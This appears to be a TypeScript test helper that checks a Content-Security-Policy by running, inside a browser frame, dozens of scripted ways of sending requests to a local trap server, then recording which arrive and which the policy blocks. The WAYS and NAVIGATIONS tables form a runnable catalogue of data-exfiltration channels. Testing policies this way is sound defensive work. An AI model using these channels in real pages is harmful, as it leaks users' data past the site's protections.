import type {Frame, Page} from 'puppeteer-core';
import type {Servers} from '../../../support/servers.ts';
import {openFields} from '../pages.ts';
import {arrivedAt, type Trap, withTrap} from './trap.ts';

/**
 * Ways to send something to the address `to`, which ends in the name of the way. Each is a script that runs in the
 * frame. `add` appends an element with these properties to the body, `svg` an SVG element, `rule` adds a rule to a
 * constructed style sheet.
 */
export const WAYS: Readonly<Record<string, string>> = {
  fetch: `await fetch(to);`,
  'fetch-no-cors': `await fetch(to, {mode: 'no-cors', method: 'POST', body: 'x'});`,
  'fetch-keepalive': `await fetch(to, {keepalive: true});`,
  'fetch-later': `fetchLater(to, {activateAfter: 0});`,
  xhr: `const request = new XMLHttpRequest(); request.open('GET', to); request.send();`,
  beacon: `navigator.sendBeacon(to, 'x');`,
  websocket: `new WebSocket(to.replace('http', 'ws'));`,
  'event-source': `new EventSource(to);`,
  image: `new Image().src = to;`,
  'image-set': `add('img', {srcset: to + ' 1x'});`,
  'input-image': `add('input', {type: 'image', src: to});`,
  'style-background': `add('div').style.backgroundImage = 'url("' + to + '")';`,
  'style-list': `add('li').style.listStyleImage = 'url("' + to + '")';`,
  'style-mask': `add('div').style.mask = 'url("' + to + '")';`,
  'style-attribute': `add('div').setAttribute('style', 'background: url("' + to + '")');`,
  'style-element': `add('style', {textContent: 'body::after {content: url("' + to + '")}'});`,
  'style-import': `add('style', {textContent: '@import url("' + to + '")'});`,
  'sheet-background': `rule('body::before {content: url("' + to + '")}');`,
  'sheet-font': `rule('@font-face {font-family: stolen; src: url("' + to + '")}'); add('p', {textContent: 'x'}).style.fontFamily = 'stolen';`,
  'font-face': `await new FontFace('lost', 'url("' + to + '")').load();`,
  script: `add('script', {src: to});`,
  'script-module': `add('script', {type: 'module', src: to});`,
  'script-inline': `add('script', {textContent: 'fetch("' + to + '")'});`,
  import: `await import(to);`,
  ...Object.fromEntries(
    [
      'stylesheet',
      'prefetch',
      'modulepreload',
      'dns-prefetch',
      'icon',
      'manifest',
      'prerender',
      'compression-dictionary',
    ].map((rel) => [`link-${rel}`, `add('link', {rel: '${rel}', href: to});`]),
  ),
  ...Object.fromEntries(
    ['script', 'image', 'style', 'font', 'fetch'].map((as) => [
      `preload-${as}`,
      `add('link', {rel: 'preload', as: '${as}', href: to, crossOrigin: 'anonymous'});`,
    ]),
  ),
  iframe: `add('iframe', {src: to});`,
  'iframe-srcdoc': `add('iframe', {srcdoc: '<img src="' + to + '">'});`,
  'iframe-blob': `add('iframe', {src: URL.createObjectURL(new Blob(['<img src="' + to + '">'], {type: 'text/html'}))});`,
  object: `add('object', {data: to});`,
  embed: `add('embed', {src: to, type: 'text/html'});`,
  audio: `add('audio', {src: to, preload: 'auto'}).load();`,
  video: `add('video', {src: to, preload: 'auto'}).load();`,
  'video-poster': `add('video', {poster: to});`,
  track: `const video = add('video', {crossOrigin: 'anonymous', src: to}); video.append(Object.assign(document.createElement('track'), {src: to, default: true}));`,
  ping: `setTimeout(() => add('a', {href: '#ping', ping: to}).click());`,
  'worker-fetch': `new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '")'])));`,
  'worker-import': `new Worker(URL.createObjectURL(new Blob(['importScripts("' + to + '")'])));`,
  'shared-worker': `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + to + '")'])));`,
  worklet: `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(to);`,
  base: `const base = add('base', {href: new URL('/', to).href}); new Image().src = 'base'; base.remove();`,
  'svg-image': `svg('image').setAttribute('href', to);`,
  'svg-use': `svg('use').setAttribute('href', to + '#x');`,
  'speculation-rules': `add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [to]}]})});`,
  'web-transport': `await new WebTransport(to.replace('http', 'https')).ready;`,
};

/** Ways to open a connection without a request, which reveals no more than the host's name and port. */
export const CONNECTIONS: Readonly<Record<string, string>> = {
  preconnect: `add('link', {rel: 'preconnect', href: to});`,
  iframe: WAYS['iframe'] ?? '',
};

/** Ways to navigate the frame itself or another window. */
export const NAVIGATIONS: Readonly<Record<string, string>> = {
  location: `location.href = to;`,
  replace: `location.replace(to);`,
  link: `add('a', {href: to}).click();`,
  'meta-refresh': `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0; url=' + to; document.head.append(meta);`,
  'form-get': `add('form', {action: to}).submit();`,
  'form-post': `add('form', {action: to, method: 'post'}).submit();`,
  open: `open(to);`,
  'link-blank': `add('a', {href: to, target: '_blank'}).click();`,
  'form-blank': `add('form', {action: to, target: '_blank'}).submit();`,
  top: `top.location.href = to;`,
  'link-top': `add('a', {href: to, target: '_top'}).click();`,
};

const TOOLS = `
  const add = (name, properties = {}) => {
    const element = Object.assign(document.createElement(name), properties);
    Object.assign(element.style, {display: 'block', width: '9px', height: '9px'});
    document.body.append(element);
    return element;
  };
  const svg = (name) => {
    const [root, element] = ['svg', name].map((each) => document.createElementNS('http://www.w3.org/2000/svg', each));
    root.append(element);
    document.body.append(root);
    return element;
  };
  const rule = (text) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  };`;

/** Starts all of these ways at once. A way that throws has sent nothing. */
export async function tryAll(
  frame: Frame,
  ways: Readonly<Record<string, string>>,
  trap: Trap,
): Promise<void> {
  const tries = Object.entries(ways).map(
    ([name, script]) =>
      `(async () => { const to = '${trap.origin}/${name}'; ${script} })().catch(() => { window.thrown?.push('${name}'); });`,
  );
  await frame.evaluate(`(() => {${TOOLS}\n${tries.join('\n')}})()`);
}

/**
 * One way for each directive about loading, with the directive that blocks it. Without the policy these arrive in every
 * engine.
 */
export const RELIABLE: Readonly<Record<string, string>> = {
  fetch: 'connect-src',
  beacon: 'connect-src',
  image: 'img-src',
  script: 'script-src',
  'link-stylesheet': 'style-src',
  'font-face': 'font-src',
  object: 'object-src',
  iframe: 'frame-src',
};

/** In the frame: records the directive of each request that the policy blocked, and the ways that threw. */
const RECORD_BLOCKED = `Object.assign(window, {blocked: [], thrown: []});
  document.addEventListener('securitypolicyviolation', ({effectiveDirective}) => { blocked.push(effectiveDirective); }); 0`;

/**
 * Attack on the Content-Security-Policy: script in the frame tries every one of {@link WAYS} to send data to the
 * attacker's server.
 *
 * @param grace how long to wait for a late request, in ms, once each of {@link RELIABLE} has arrived or was blocked.
 * @returns names of the ways by which a request or a datagram arrived.
 */
export async function sendDataOut(page: Page, servers: Servers, grace = 1000): Promise<string[]> {
  return withTrap(async (trap) => {
    const frame = await openFields(page, servers);
    await frame.evaluate(RECORD_BLOCKED);
    await tryAll(frame, WAYS, trap);
    for (const name of Object.keys(RELIABLE)) await untilArrivedOrBlocked(frame, trap, name);
    await pause(grace);
    await fetch(`${trap.origin}/marker`);
    while (!arrivedAt(trap).has('marker')) await pause(10);
    const arrived = [...arrivedAt(trap)].filter((name) => name !== 'marker');
    return trap.datagrams() > 0 ? [...arrived, 'datagrams'] : arrived;
  });
}

async function untilArrivedOrBlocked(frame: Frame, trap: Trap, name: string): Promise<void> {
  const deadline = Date.now() + 20_000;
  const isBlocked = () =>
    frame.evaluate(
      `thrown.includes('${name}') || blocked.some((each) => each.startsWith('${RELIABLE[name] ?? ''}'))`,
    );
  while (!arrivedAt(trap).has(name) && !(await isBlocked())) {
    if (Date.now() > deadline) throw new Error(`${name} neither arrived nor was blocked`);
    await pause(25);
  }
}

export const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
